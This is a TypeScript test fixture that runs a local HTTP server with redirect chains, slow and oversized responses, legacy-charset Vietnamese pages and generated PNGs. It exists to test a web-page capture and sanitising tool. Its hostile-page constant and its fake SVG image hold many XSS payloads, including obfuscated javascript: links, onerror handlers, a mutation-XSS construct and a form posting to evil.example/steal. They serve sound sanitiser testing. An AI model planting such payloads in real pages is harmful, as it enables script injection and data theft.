import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { deflateSync } from 'node:zlib';
import iconv from 'iconv-lite';

/**
 * A real HTTP server on 127.0.0.1 (port 0) serving the pages the capture tests need: redirects,
 * errors, slow and huge bodies, legacy charsets, images and hostile markup.
 */

export const VI_TEXT =
  'Lấy sự hài lòng của người dân là trọng tâm của công tác dân vận. Đồng chí Trương Thị Mai phát biểu chỉ đạo tại buổi làm việc với Tỉnh ủy Bến Tre về việc thực hiện “Năm dân vận chính quyền”; kết quả đạt được rất đáng ghi nhận, nhiều chỉ tiêu vượt kế hoạch đề ra.';

/**
 * windows-1258 writes most tones as combining marks after a base letter (which may itself carry a
 * circumflex, breve or horn), so an encoder must first put NFC text into that shape; iconv-lite
 * does not, and would turn every 'ấ' into '?'. This is what real cp1258 encoders (Windows) do.
 */
export function toCp1258Shape(nfc: string): string {
  const TONES = /[\u0300\u0301\u0303\u0309\u0323]/gu;
  return nfc.normalize('NFD').replace(/(\P{M})(\p{M}*)/gu, (_m, base: string, marks: string) => {
    const tones = marks.match(TONES)?.join('') ?? '';
    const rest = marks.replace(TONES, '');
    return (base + rest).normalize('NFC') + tones;
  });
}

export function encodeCp1258(nfc: string): Buffer {
  return iconv.encode(toCp1258Shape(nfc), 'windows-1258');
}

/** A valid PNG of w x h pixels, one colour: real bytes, so magic-byte checks have something to pass. */
export function makePng(w: number, h: number, rgb: [number, number, number]): Buffer {
  const crcTable = Array.from({ length: 256 }, (_, n) => {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    return c >>> 0;
  });
  const crc = (buf: Buffer): number => {
    let c = 0xffffffff;
    for (const b of buf) c = (crcTable[(c ^ b) & 0xff] as number) ^ (c >>> 8);
    return (c ^ 0xffffffff) >>> 0;
  };
  const chunk = (type: string, data: Buffer): Buffer => {
    const len = Buffer.alloc(4);
    len.writeUInt32BE(data.length);
    const td = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const c = Buffer.alloc(4);
    c.writeUInt32BE(crc(td));
    return Buffer.concat([len, td, c]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(w, 0);
  ihdr.writeUInt32BE(h, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // truecolour
  const row = Buffer.concat([Buffer.from([0]), Buffer.from(Array.from({ length: w }, () => rgb).flat())]);
  const raw = Buffer.concat(Array.from({ length: h }, () => row));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', deflateSync(raw)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

export const RED_PNG = makePng(4, 3, [255, 0, 0]);
export const BLUE_PNG = makePng(2, 2, [0, 0, 255]);
export const GREEN_PNG = makePng(3, 3, [0, 255, 0]);

const PROSE =
  'Readers keep coming back to this story because it explains, in plain words, how the river changed the town. ' +
  'Every spring the water rose over the old market, and every summer the traders rebuilt their stalls a little higher. ';

export function articlePage(title: string, body: string, head = ''): string {
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${title}</title>${head}</head>
<body><header><nav><a href="/">Home</a> <a href="/news">News</a></nav></header>
<article><h1>${title}</h1>${body}<p>${PROSE.repeat(3)}</p><p>${PROSE.repeat(2)}</p></article>
<footer><p>© Example News</p></footer></body></html>`;
}

export interface FixtureServer {
  url: string;
  /** Requests seen per path, to assert what was (not) downloaded. */
  hits: Map<string, number>;
  /** Bytes the /huge endpoint actually wrote before the client went away. */
  hugeBytesSent: () => number;
  close: () => Promise<void>;
}

type Handler = (req: http.IncomingMessage, res: http.ServerResponse) => void;

export async function startFixtureServer(extra: Record<string, Handler> = {}): Promise<FixtureServer> {
  const hits = new Map<string, number>();
  let hugeSent = 0;
  const html = (res: http.ServerResponse, body: string | Buffer, type = 'text/html; charset=utf-8'): void => {
    res.writeHead(200, { 'Content-Type': type });
    res.end(body);
  };
  const routes: Record<string, Handler> = {
    '/article': (_q, res) =>
      html(
        res,
        articlePage(
          'The River Town',
          '<p class="byline">By Jane Writer</p><p>Intro paragraph with a <a href="/other?utm_source=x">relative link</a>.</p>',
          '<link rel="canonical" href="/article?utm_medium=email&amp;b=2&amp;a=1#top"><meta property="article:published_time" content="2022-01-28T07:30:00Z">',
        ),
      ),
    '/redirect/1': (_q, res) => res.writeHead(301, { Location: '/redirect/2' }).end(),
    '/redirect/2': (_q, res) => res.writeHead(302, { Location: '/redirect/3' }).end(),
    '/redirect/3': (_q, res) => res.writeHead(307, { Location: '/article' }).end(),
    '/loop/a': (_q, res) => res.writeHead(302, { Location: '/loop/b' }).end(),
    '/loop/b': (_q, res) => res.writeHead(302, { Location: '/loop/a' }).end(),
    '/missing': (_q, res) => res.writeHead(404, { 'Content-Type': 'text/html' }).end('<h1>Not here</h1>'),
    '/broken': (_q, res) => res.writeHead(500, { 'Content-Type': 'text/html' }).end('<h1>Oops</h1>'),
    '/slow': (_q, res) => {
      // Headers at once, then a trickle that never ends: only a body deadline can stop it.
      res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
      res.write('<html><body><p>');
      const t = setInterval(() => res.write('still loading… '), 50);
      res.on('close', () => clearInterval(t));
    },
    '/huge': (_q, res) => {
      // 200 MB announced nowhere (chunked); produced lazily, 64 KB at a time, as the client reads.
      res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
      const chunk = Buffer.alloc(64 * 1024, 'a');
      const total = 200 * 1024 * 1024;
      const pump = (): void => {
        while (hugeSent < total) {
          hugeSent += chunk.length;
          if (!res.write(chunk)) return void res.once('drain', pump);
        }
        res.end();
      };
      res.on('close', () => res.removeAllListeners('drain'));
      pump();
    },
    '/huge-declared': (_q, res) => {
      res.writeHead(200, { 'Content-Type': 'text/html', 'Content-Length': String(200 * 1024 * 1024) });
      res.write('<html>');
      // Never sends the rest: the client must refuse on the header alone.
    },
    '/vi-1258': (_q, res) =>
      html(
        res,
        encodeCp1258(
          `<!doctype html><html lang="vi"><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1258"><title>Tin tức</title></head><body><article><h1>Công tác dân vận</h1><p>${VI_TEXT}</p><p>${VI_TEXT}</p></article></body></html>`,
        ),
        'text/html',
      ),
    '/vi-wrong-charset': (_q, res) =>
      html(
        res,
        Buffer.from(
          `<!doctype html><html><head><meta charset="iso-8859-1"><title>Tin tức</title></head><body><article><h1>Công tác dân vận</h1><p>${VI_TEXT}</p><p>${VI_TEXT}</p></article></body></html>`,
          'utf8',
        ),
        'text/html; charset=iso-8859-1',
      ),
    '/images': (_q, res) =>
      html(
        res,
        articlePage(
          'Pictures',
          `<figure><img src="/img/red.png" alt="Red square"><figcaption>A red square</figcaption></figure>
<p>Text between images.</p>
<img src="/img/missing.png" alt="Gone picture">
<img src="/img/small-blue.png" srcset="/img/small-blue.png 300w, /img/blue.png 1100w, /img/huge-blue.png 3000w" alt="Blue">
<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" data-src="/img/green.png" class="lazy" alt="Green lazy">
<picture><source srcset="/img/red-copy.png 1200w" type="image/png"><img src="/img/fallback.png" alt="Picture red"></picture>
<img src="/img/not-an-image.png" alt="Liar">`,
          '<meta property="og:image" content="/img/blue.png">',
        ),
      ),
    '/img/red.png': (_q, res) => res.writeHead(200, { 'Content-Type': 'image/png' }).end(RED_PNG),
    '/img/red-copy.png': (_q, res) => res.writeHead(200, { 'Content-Type': 'image/png' }).end(RED_PNG),
    '/img/blue.png': (_q, res) => res.writeHead(200, { 'Content-Type': 'image/png' }).end(BLUE_PNG),
    '/img/green.png': (_q, res) => res.writeHead(200, { 'Content-Type': 'image/png' }).end(GREEN_PNG),
    '/img/not-an-image.png': (_q, res) =>
      res
        .writeHead(200, { 'Content-Type': 'image/png' })
        .end('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    '/xss': (_q, res) => html(res, XSS_PAGE),
    '/doc.pdf': (_q, res) => res.writeHead(200, { 'Content-Type': 'application/pdf' }).end('%PDF-1.4\n%fake'),
    '/blob': (_q, res) =>
      res.writeHead(200, { 'Content-Type': 'application/octet-stream' }).end(Buffer.alloc(64, 1)),
    '/plain.txt': (_q, res) =>
      html(
        res,
        'A Plain Title\n\nJanuary 28, 2022\n\nA first paragraph of plain text served over HTTP.\n\nShare this article',
        'text/plain; charset=utf-8',
      ),
    '/empty-article': (_q, res) =>
      html(
        res,
        '<!doctype html><html><head><title>Nothing</title></head><body><div><img src="/img/red.png"></div></body></html>',
      ),
    ...extra,
  };
  const server = http.createServer((req, res) => {
    const path = new URL(req.url ?? '/', 'http://x').pathname;
    hits.set(path, (hits.get(path) ?? 0) + 1);
    const route = routes[path];
    if (route) route(req, res);
    else res.writeHead(404, { 'Content-Type': 'text/plain' }).end('not found');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    hits,
    hugeBytesSent: () => hugeSent,
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

export const XSS_PAGE = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Hostile page</title>
<base href="http://evil.example/">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<link rel="stylesheet" href="http://evil.example/x.css">
<style>@import url(http://evil.example/a.css); body { background: url(http://evil.example/b.png) }</style>
<script>alert('head')</script></head><body><article><h1>Hostile page</h1>
<p>First paragraph of a perfectly ordinary article that happens to be full of traps for the sanitiser to remove.
It needs enough words for Readability to pick it as the content and not as boilerplate of some kind.</p>
<p onclick="alert(1)" style="background:url(http://evil.example/c.png)">Clickable paragraph with inline style and more words so it stays in the article body as real content.</p>
<script>alert('body')</script>
<img src="x" onerror="alert(1)" alt="trap image">
<a href="javascript:alert(1)">js link</a>
<a href="jav&#x09;ascript:alert(2)">tab link</a>
<a href=" &#x6A;avascript:alert(3)">entity link</a>
<a href="JaVaScRiPt:alert(4)">case link</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg==">data link</a>
<a href="vbscript:msgbox(1)">vb link</a>
<a href="/relative/page" target="_blank">relative link</a>
<a href="mailto:editor@example.com">mail link</a>
<iframe src="http://evil.example/frame" srcdoc="<script>alert(6)</script>"></iframe>
<object data="http://evil.example/x.swf"></object><embed src="http://evil.example/y.swf">
<form action="http://evil.example/steal"><input name="q" value="secret"><button formaction="javascript:alert(7)">Go</button></form>
<svg><script>alert(8)</script><a xlink:href="javascript:alert(9)"><text>svg text</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(10)></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=alert(11)>">noscript trap</p></noscript>
<div style="width: expression(alert(12))">Styled div with enough text to survive extraction as content.</div>
<p>Last paragraph of the hostile article, long enough to count as real text for the extraction step.
Readability needs commas, and sentences, and length, so here they are, all of them, in one place.</p>
</article></body></html>`;
